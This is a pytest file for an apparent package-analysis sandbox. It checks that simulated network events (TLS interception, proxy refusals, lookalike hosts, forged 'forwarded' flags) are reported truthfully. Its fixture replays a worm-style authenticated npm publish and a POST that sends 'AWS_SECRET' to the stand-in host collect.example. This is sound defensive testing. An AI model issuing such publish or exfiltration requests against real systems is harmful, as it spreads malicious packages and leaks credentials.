"""The network story as every reader shows it (story.py, used by the release page, the diff and
the CLI), from events the real simulator and proxy wrote: what was asked, how TLS went, what was
answered, what the proxy decided and why. Nothing that was not forwarded ever reads as forwarded."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from simharness import events, exchange, request, simulator
from pkgtrace.diff.behaviour import behaviour_of
from pkgtrace.sandbox.netsim.ca import RunCA
from pkgtrace.sandbox.netsim.forwarder import Forwarder
from pkgtrace.sandbox.netsim.network import confirm_forwarded
from pkgtrace.sandbox.netsim.policy import REGISTRY_HOSTS_BY_ECOSYSTEM
from pkgtrace.api.network import NetworkEvent
from pkgtrace.sandbox.netsim.story import story
from pkgtrace.results.documents import read_documents
from pkgtrace.web.pages.behaviour import phases

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "results"))
from fixture_docs import dynamic_doc, dynamic_section, report_doc  # noqa: E402

NPM = REGISTRY_HOSTS_BY_ECOSYSTEM["npm"]
TOKEN = {"Authorization": "Bearer npm_0123456789abcdef"}


@pytest.fixture(scope="module")
def captured(tmp_path_factory):
    """One npm run's traffic: a publish, the same publish to lookalike names, a pinned client, an
    exfiltration POST; with the proxy's own log."""
    folder = tmp_path_factory.mktemp("story")
    fwd = Forwarder(str(folder / "proxy.sock"), NPM)
    try:
        state = simulator(folder, RunCA.mint(), fwd.path, NPM)
        put = request("PUT", "/evil-worm", "registry.npmjs.org", TOKEN, b'{"name":"evil-worm"}')
        exchange(state, put, "registry.npmjs.org")
        exchange(state, request("PUT", "/evil-worm", "registry.npmjs.org.", TOKEN, b"{}"),
                 "registry.npmjs.org.", verify_name=False)
        exchange(state, request("GET", "/evil-worm", "registry.npmjs.org"), "198.18.0.7", verify_name=False)
        exchange(state, request("GET", "/evil-worm", "registry.npmjs.org"), None)  # plain HTTP
        exchange(state, request("GET", "/", "pinned.example"), "pinned.example", trust=RunCA.mint())
        exchange(state, request("POST", "/upload", "collect.example", body=b"AWS_SECRET=x"), "collect.example")
        evs = confirm_forwarded(events(state), list(fwd.log))
    finally:
        fwd.close()
    return evs, list(fwd.log)


def _story(e: dict):
    return story(NetworkEvent.model_validate(e))


def _by(evs, pred):
    return [_story(e) for e in evs if pred(e)]


def test_a_refused_publish_reads_as_refused_with_its_reason(captured):
    evs, log = captured
    (s,) = _by(evs, lambda e: (e.get("tls") or {}).get("sni") == "registry.npmjs.org")
    assert s.request == "PUT /evil-worm HTTP/1.1" and s.tls and s.tls_outcome == "intercepted"
    assert not s.forwarded and s.decision == "refused" and s.write
    assert "not a read" in s.reason and s.outcome.startswith("refused by the proxy: PUT is not a read")
    assert s.answer.startswith("403 refused, by the proxy")
    assert ("Authorization", TOKEN["Authorization"]) in s.headers and s.body == '{"name":"evil-worm"}'
    assert [p["decision"] for p in log] == ["refused"]  # the only request the proxy saw


def test_lookalike_names_never_read_as_forwarded(captured):
    evs, _ = captured
    stories = [_story(e) for e in evs]
    assert not any(s.forwarded or "forwarded to" in s.outcome for s in stories)
    dotted = _by(evs, lambda e: (e.get("http") or {}).get("host") == "registry.npmjs.org.")
    # each one says why it went nowhere, and that the simulator, not a registry, answered it
    (dotted,) = _by(evs, lambda e: (e.get("http") or {}).get("host") == "registry.npmjs.org.")
    assert dotted.outcome == ("not forwarded: registry.npmjs.org. is not a registry host of this run; "
                              "answered by the simulator") and dotted.write
    assert dotted.answer.startswith("200 ok, by the simulator")
    (by_address,) = _by(evs, lambda e: e.get("tls") and not e["tls"].get("sni") and e.get("http"))
    assert by_address.outcome.startswith("not forwarded: no name is not a registry host")
    (plain,) = [s for s in stories if not s.tls and s.request]
    assert plain.decision == "refused" and plain.outcome.startswith("not forwarded: plain HTTP is never forwarded")


def test_a_pinned_client_reads_as_refusing_the_interception(captured):
    evs, _ = captured
    (s,) = _by(evs, lambda e: (e.get("tls") or {}).get("sni") == "pinned.example")
    assert s.tls_outcome.startswith("refused by the client") and s.request is None
    assert s.outcome.startswith("TLS refused by the client")


def test_a_forged_allowed_flag_is_not_believed(captured):
    evs, _ = captured
    forged = [dict(e, allowed=True, proxy={**(e.get("proxy") or {}), "decision": "forwarded"}) for e in evs
              if (e.get("http") or {}).get("method") == "PUT"]
    # what the host does with the simulator's word: check it against the proxy's log
    for s in map(_story, confirm_forwarded(forged, [])):
        assert not s.forwarded and s.decision == "not confirmed" and "no record" in s.reason
    # and a "forwarded" with no allowed flag is not forwarding either
    assert not _story(dict(forged[0], allowed=False)).forwarded


def test_the_page_and_the_diff_tell_the_same_story(captured):
    evs, _ = captured
    report = dict(report_doc("evil-worm", ecosystem="npm"), dynamic=dynamic_section({"install": {"network": evs}}))
    dynamic = dict(dynamic_doc("evil-worm", ecosystem="npm"), Analysis={"install": {"Status": "completed"}})
    (install,) = phases(read_documents({"dynamic": dynamic, "report": report}))
    assert len(install.captures) == len(evs) and not any(c.forwarded for c in install.captures)
    requests = behaviour_of({"report": report}).dims["requests"]
    put = requests["PUT https://registry.npmjs.org/evil-worm"]
    assert "refused by the proxy: PUT is not a read" in put.detail and "TLS intercepted" in put.detail
    dotted = requests["PUT https://registry.npmjs.org./evil-worm"]
    assert dotted.detail.startswith("TLS intercepted; not forwarded: registry.npmjs.org. is not a registry host")
    assert "refused by the client" in requests["TLS to pinned.example"].detail
    assert "answered by the simulator" in requests["POST https://collect.example/upload"].detail


def test_the_cli_summary_tells_it_too(captured, capsys):
    from pkgtrace.commands.analyze import print_summary
    evs, _ = captured
    put = next(e for e in evs if (e.get("http") or {}).get("method") == "PUT")
    forged = confirm_forwarded([dict(put, allowed=True, proxy={**put["proxy"], "decision": "forwarded"})], [])
    empty = {"Status": "completed", "Files": [], "Commands": [], "Sockets": [], "DNS": []}
    report = {k: v for k, v in report_doc("evil-worm", ecosystem="npm").items() if k != "verdict"}
    report["dynamic"] = dynamic_section({"install": {"network": forged + evs}})
    print_summary({"report": report, "dynamic": dict(dynamic_doc("evil-worm", ecosystem="npm"),
                                                     Analysis={"install": empty})})
    err = capsys.readouterr().err
    assert "(not forwarded: the proxy has no record of forwarding this)" in err
    assert "(refused by the proxy: PUT is not a read" in err
    assert "registry.npmjs.org./evil-worm" in err and "forwarded to the registry" not in err


def test_an_unreachable_proxy_reads_as_not_forwarded_and_unanswered():
    e = {"kind": "tcp", "dst": "198.18.0.3", "port": 443, "allowed": False,
         "tls": {"sni": "pypi.org", "intercepted": True},
         "http": {"method": "GET", "target": "/simple/six/", "version": "HTTP/1.1", "host": "pypi.org"},
         "proxy": {"decision": "refused", "reason": "proxy unreachable: [Errno 111] Connection refused"}}
    s = _story(e)
    assert not s.forwarded and s.answer == "" and s.verdict == "not forwarded"
    assert s.outcome == "not forwarded: proxy unreachable: [Errno 111] Connection refused"
    assert not _story(dict(e, proxy={"decision": "passed"}, allowed=True)).forwarded  # unknown words
